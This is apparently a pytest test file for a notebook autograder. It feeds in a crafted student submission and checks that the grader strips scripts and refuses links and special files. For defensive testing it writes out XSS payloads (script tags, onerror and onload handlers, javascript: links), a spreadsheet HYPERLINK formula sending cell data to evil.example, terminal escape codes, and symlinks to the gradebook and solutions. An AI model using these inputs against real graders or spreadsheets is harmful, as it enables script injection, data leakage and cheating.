"""Nothing a student sends is active or followed (emcourse_grader/untrusted.py).

Through the real commands, in a temporary copy of the course (scripts/demo_class.py): hw1 is
generated, three submissions are laid out in submitted/, and ``nbgrader autograde hw1``,
``nbgrader generate_feedback hw1`` and ``python -m emcourse_grader grade hw1 --workers 2``
grade them:

* mallory's notebook, otherwise the full solution, displays a ``<script>``, JavaScript
  outputs, an ``<img onerror>``, an SVG with ``onload`` and Markdown with an ``onerror``
  beside an honest PNG plot and HTML table; her written answer has an ``<img onerror>`` and a
  ``javascript:`` link; two cells carry cell ids a spreadsheet or a terminal would run; beside
  the notebook she hands in links to the gradebook and to the solution notebook (a file and a
  folder), a fifo and a 21 MB file.
* nblink, graded after her, hands in a link to the solution notebook as his notebook.

Then ``nbgrader collect`` meets links and a fifo planted in the exchange's inbound copy.
The set-up runs once (about two minutes on two cores).
"""

from __future__ import annotations

import csv
import os
import shutil
import sys
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "scripts"))
import demo_class
from inert_helpers import MARKERS, assert_inert
from inert_helpers import render_notebook as _render

HW, NOTEBOOK = "hw1", demo_class.ASSIGNMENTS["hw1"]
FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPE_ID = "x\x1b[2J\x1b]0;owned\x07\x1b[31mred"  # after FORMULA_ID in the joined detail

ATTACKS = r'''
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>document.title = 'PWNED-html'</script><b>bold</b>"
             "<table><tr><th>k</th></tr><tr><td>cell-42</td></tr></table>"))
display(Javascript("document.title = 'PWNED-js'"))
display({"application/javascript": "alert('PWNED-raw')", "text/plain": "js"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "PWNED"},
         "text/plain": "widget"}, raw=True)
display(HTML("<img src=x onerror=\"alert('PWNED-img')\"><a href='javascript:alert(1)'>x</a>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'PWNED-svg\')">'
            '<circle r="5"/></svg>'))
display(Markdown("<img src=x onerror=\"alert('PWNED-md')\"> and [y](javascript:alert(2))"))
import io
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
from IPython.display import Image
fig = plt.figure()
plt.plot([0, 1], [0, 1])
buf = io.BytesIO()
fig.savefig(buf, format="png")
display(Image(buf.getvalue()))
'''
ANSWER = ("Each step lowers $J$. <img src=x onerror=\"alert('PWNED-answer')\"> "
          "[see](javascript:alert('PWNED-link'))")


def _mallory(course: Path, folder: Path) -> None:
    nb_path = folder / f"{NOTEBOOK}.ipynb"
    demo_class.fill_notebook(nb_path, course / "solutions" / HW / f"{NOTEBOOK}.ipynb",
                             "solution", HW)
    nb = nbformat.read(nb_path, as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "assign":
            cell.source = ATTACKS + "\n\n" + cell.source
        elif gid == "inertia_answer":
            cell.source = ANSWER
    for gid in (FORMULA_ID, ESCAPE_ID):
        nb.cells.append(nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": {
            "grade_id": gid, "grade": False, "solution": False, "locked": False,
            "schema_version": 3}}))
    nb.cells.append(nbformat.v4.new_raw_cell("<script>alert('PWNED-raw-cell')</script>",
                                             metadata={"raw_mimetype": "text/html"}))
    nbformat.write(nb, nb_path)


def plant(course: Path) -> None:
    """The two submissions, laid out afresh in submitted/ (grading removes what it refuses)."""
    release = course / "assignments" / HW / f"{NOTEBOOK}.ipynb"
    solution = course / "solutions" / HW / f"{NOTEBOOK}.ipynb"
    for student in ("mallory", "nblink"):
        folder = course / "submitted" / student / HW
        if folder.exists():
            shutil.rmtree(folder)
        folder.mkdir(parents=True)
        (folder / "timestamp.txt").write_text("2026-12-01 10:00:00.000000 UTC")
        if student == "nblink":
            os.symlink(solution, folder / f"{NOTEBOOK}.ipynb")
            continue
        shutil.copy(release, folder / f"{NOTEBOOK}.ipynb")
        _mallory(course, folder)
        os.symlink(course / "gradebook.db", folder / "notes.db")
        os.symlink(solution, folder / "answers.txt")
        os.symlink(solution.parent, folder / "more")
        os.mkfifo(folder / "pipe")
        with open(folder / "big.bin", "wb") as f:  # sparse: 21 MB on paper, nothing on disk
            f.truncate(21 * 2**20)


def _tree(path: Path) -> dict:
    """Relative path -> bytes of every file below ``path`` (links listed, never followed)."""
    out = {}
    for p in sorted(path.rglob("*")):
        if p.is_symlink():
            out[str(p.relative_to(path))] = b"<symlink>"
        elif p.is_file():
            out[str(p.relative_to(path))] = p.read_bytes()
    return out


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("untrusted")
    course = demo_class.copy_course(tmp / "course", assignments=[HW])
    log: list[str] = []
    demo_class.nbgrader(course, "generate_assignment", HW, "--force", log=log.append)
    plant(course)
    serial = demo_class.nbgrader(course, "autograde", HW, log=log.append)
    demo_class.nbgrader(course, "generate_feedback", HW, log=log.append)
    return {"path": course, "serial": serial, "tmp": tmp,
            "autograded": _tree(course / "autograded"), "feedback": _tree(course / "feedback"),
            "report": (course / "integrity_report.csv").read_text(encoding="utf-8")}


@pytest.fixture(scope="module")
def parallel(course):
    """The same submissions graded again by the parallel command on two workers."""
    path = course["path"]
    plant(path)
    out = demo_class.parallel_grade(path, [HW], "--force", workers=2, log=lambda *a: None)
    return {"out": out, "autograded": _tree(path / "autograded"),
            "report": (path / "integrity_report.csv").read_text(encoding="utf-8")}


def _notebook(tree: dict, student: str):
    return nbformat.reads(tree[f"{student}/{HW}/{NOTEBOOK}.ipynb"].decode(), as_version=4)


# --------------------------------------------------------------------------------------------
# Outputs and written answers
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("run", ["serial", "parallel"])
def test_the_autograded_notebook_carries_no_active_content(course, parallel, run):
    tree = course["autograded"] if run == "serial" else parallel["autograded"]
    nb = _notebook(tree, "mallory")
    mimes = {m for c in nb.cells for o in c.get("outputs", []) for m in o.get("data", {})}
    assert not {m for m in mimes if "javascript" in m or "widget" in m}, mimes
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            for mime in ("text/html", "image/svg+xml"):
                assert not any(m in str(out.get("data", {}).get(mime, "")) for m in MARKERS)
    assert_inert(_render(nb), f"{run}: the autograded notebook rendered")
    # the honest outputs are there: the plot as PNG, the table as HTML
    assert "image/png" in mimes
    tables = [o.data["text/html"] for c in nb.cells for o in c.get("outputs", [])
              if "text/html" in o.get("data", {}) and "cell-42" in o.data["text/html"]]
    assert tables and "<table>" in tables[0] and "<b>bold</b>" in tables[0], tables


def test_the_feedback_page_runs_nothing_of_the_students(course):
    page = course["feedback"][f"mallory/{HW}/{NOTEBOOK}.html"].decode()
    assert_inert(page, "feedback")
    # the page's own scripts (MathJax) are still there; the honest outputs survive
    assert "MathJax" in page and "data:image/png;base64," in page
    assert "<td>cell-42</td>" in page and "<b>bold</b>" in page
    # the written answer is shown, as text, for the student and the human grader
    assert "Each step lowers" in page and "PWNED-answer" in page


def test_a_written_answer_with_active_html_is_shown_as_text(course):
    nb = _notebook(course["autograded"], "mallory")
    answer = next(c for c in nb.cells
                  if c.metadata.get("nbgrader", {}).get("grade_id") == "inertia_answer")
    assert ANSWER in answer.source and "plain text" in answer.source
    assert_inert(_render(nb), "the written answer rendered")
    # the instructor's text (headings, links, formulas) is left exactly as released
    release = nbformat.read(course["path"] / "assignments" / HW / f"{NOTEBOOK}.ipynb", 4)
    texts = [c.source for c in release.cells if c.cell_type == "markdown"][:-1]
    assert texts == [c.source for c in nb.cells if c.cell_type == "markdown"][:len(texts)]


def test_report_fields_are_quoted_once_and_stripped():
    from emcourse_grader import untrusted

    for value in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1"):
        field = untrusted.csv_field(value)
        assert field.startswith("'") and untrusted.csv_field(field) == field, (value, field)
    assert untrusted.csv_field("a\x1b[31mb\x07c\x00") == "abc"
    assert untrusted.terminal_text("x\x1b]0;title\x07y\x1b[2Jz\nw") == "xyz w"


def test_an_honest_written_answer_and_output_are_left_as_they_are():
    from emcourse_grader import untrusted

    text = "Each step lowers $J$: $a < b$, **so** <b>it</b> [ends](https://example.org)."
    assert untrusted.clean_markdown(text) == text
    table = "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>"
    assert untrusted.clean_html(table) == table


# --------------------------------------------------------------------------------------------
# Report fields
# --------------------------------------------------------------------------------------------

def _rows(text: str, student: str) -> list:
    return [r for r in csv.DictReader(text.splitlines()) if r["student"] == student]


@pytest.mark.parametrize("run", ["serial", "parallel"])
def test_cell_ids_in_the_report_are_neither_formulas_nor_escape_codes(course, parallel, run):
    text = course["report"] if run == "serial" else parallel["report"]
    assert "\x1b" not in text and "\x07" not in text
    details = [r["detail"] for r in _rows(text, "mallory")
               if "a cell id the assignment does not have" in r["reason"]]
    # one row, the two ids joined: the formula first, quoted; the escape codes gone
    assert details == ["'" + FORMULA_ID + "; xred"], details
    for row in csv.DictReader(text.splitlines()):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_terminal_summary_prints_no_escape_codes(parallel):
    assert "\x1b" not in parallel["out"] and "\x07" not in parallel["out"]
    assert "a cell id the assignment does not have" in parallel["out"]


# --------------------------------------------------------------------------------------------
# Links, special files
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("run", ["serial", "parallel"])
def test_links_and_fifos_are_not_followed_and_grading_goes_on(course, parallel, run):
    path = course["path"]
    trees = {"autograded": course["autograded"] if run == "serial" else parallel["autograded"]}
    if run == "serial":
        trees["feedback"] = course["feedback"]
    for where, tree in trees.items():
        for name, data in tree.items():
            assert data != b"<symlink>", f"{where}/{name} is a link"
            assert b"SQLite format 3" not in data, f"{where}/{name} holds the gradebook"
        ext = ".ipynb" if where == "autograded" else ".html"
        expected = {f"{s}/{HW}/{n}" for s in ("mallory", "nblink")
                    for n in (NOTEBOOK + ext, "timestamp.txt")}
        if run == "parallel":  # a notebook not handed in has no autograded notebook
            expected.discard(f"nblink/{HW}/{NOTEBOOK}.ipynb")
        assert set(tree) == expected, f"{where}: {sorted(tree)}"
    if run == "serial":  # nblink's notebook: the unanswered release, not the solution
        nb = _notebook(course["autograded"], "nblink")
        assert not any("BEGIN SOLUTION" in c.source for c in nb.cells)
    # both were graded: mallory's notebook fully, nblink's link as nothing handed in
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{path / 'gradebook.db'}") as gb:
        scores = {s.student.id: s.score for s in gb.find_assignment(HW).submissions}
    assert scores["mallory"] == demo_class.EXPECTED[HW]["ada"], scores
    assert scores["nblink"] == 0, scores
    report = course["report"] if run == "serial" else parallel["report"]
    details = " | ".join(r["detail"] for r in _rows(report, "mallory"))
    for what in ("notes.db: a symbolic link", "answers.txt: a symbolic link",
                 "more: a symbolic link", "pipe: a named pipe (fifo)",
                 "big.bin: 21 MB, more than the 20 MB a file may have"):
        assert what in details, details
    assert _rows(report, "nblink"), "nblink's link is reported"


def test_collect_copies_no_link_or_fifo_from_the_exchange(course):
    """A submission in the exchange's inbound folder, as ``nbgrader submit`` leaves it, with
    links and a fifo the student planted there."""
    path = course["path"]
    root = course["tmp"] / "exchange"
    stamp = "2026-12-01 10:00:00.000000 UTC"
    inbound = root / demo_class.COURSE_ID / "inbound" / f"carol+{HW}+{stamp}+abc123"
    inbound.mkdir(parents=True)
    shutil.copy(path / "assignments" / HW / f"{NOTEBOOK}.ipynb", inbound)
    (inbound / "timestamp.txt").write_text(stamp)
    os.symlink(path / "gradebook.db", inbound / "grades.db")
    os.symlink(path / "solutions", inbound / "solutions")
    os.mkfifo(inbound / "pipe")
    out = demo_class.nbgrader(path, "collect", HW, f"--Exchange.root={root}",
                              "--CollectApp.check_owner=False", log=lambda *a: None)
    submitted = path / "submitted" / "carol" / HW
    assert (submitted / f"{NOTEBOOK}.ipynb").is_file()
    assert sorted(p.name for p in submitted.iterdir()) == [f"{NOTEBOOK}.ipynb", "timestamp.txt"]
    assert "Refused grades.db" in out and "Refused pipe" in out, out
    rows = _rows((path / "integrity_report.csv").read_text(), "carol")
    details = "; ".join(r["detail"] for r in rows)  # one row, the reasons joined
    for what in ("grades.db: a symbolic link", "solutions: a symbolic link",
                 "pipe: a named pipe (fifo)"):
        assert what in details, details
